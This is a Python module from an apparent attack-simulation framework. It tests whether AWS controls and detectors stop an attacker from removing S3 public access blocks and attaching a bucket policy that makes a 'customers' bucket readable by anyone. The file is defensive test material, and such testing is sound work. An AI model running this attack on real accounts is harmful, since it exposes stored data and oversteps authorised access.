"""Lift the account's block of public access, and open a bucket to the world by its policy."""

from bastide.attack.stage import Stage, policy
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A bucket is opened to the world",
    mitre=("T1537", "T1530"),
    tactic="exfiltration",
    detectors=(
        "GuardDuty Policy:S3/AccountBlockPublicAccessDisabled",
        "GuardDuty Policy:S3/BucketPublicAccessGranted",
        "Security Hub S3.1",
        "IAM Access Analyzer: public access to a bucket",
    ),
    expected=Prevented("s3-account-bpa"),
    source='Amazon S3 User Guide, "Blocking public access to your Amazon S3 storage"',
)
BLOCKED = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)


def prepare(stage: Stage) -> Scene:
    """A bucket in an account that blocks public access."""
    stage.owner().client("s3control").put_public_access_block(
        AccountId=stage.victim, PublicAccessBlockConfiguration=BLOCKED
    )
    return {"bucket": stage.bucket("customers")}


def attack(stage: Stage, scene: Scene) -> None:
    """Lift both blocks, then let everybody read."""
    stage.attacker().client("s3control").delete_public_access_block(AccountId=stage.victim)
    s3 = stage.attacker().client("s3")
    s3.delete_public_access_block(Bucket=scene["bucket"])
    objects = f"arn:aws:s3:::{scene['bucket']}/*"
    everybody = policy({"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": objects})
    s3.put_bucket_policy(Bucket=scene["bucket"], Policy=everybody)


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The bucket's policy is public."""
    s3 = stage.owner().client("s3")
    try:
        return '"Principal": "*"' in s3.get_bucket_policy(Bucket=scene["bucket"])["Policy"]
    except s3.exceptions.ClientError as error:
        if error.response["Error"]["Code"] != "NoSuchBucketPolicy":
            raise
        return False


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the bucket, block public access again."""
    stage.drop_bucket(scene["bucket"])
    stage.owner().client("s3control").put_public_access_block(
        AccountId=stage.victim, PublicAccessBlockConfiguration=BLOCKED
    )
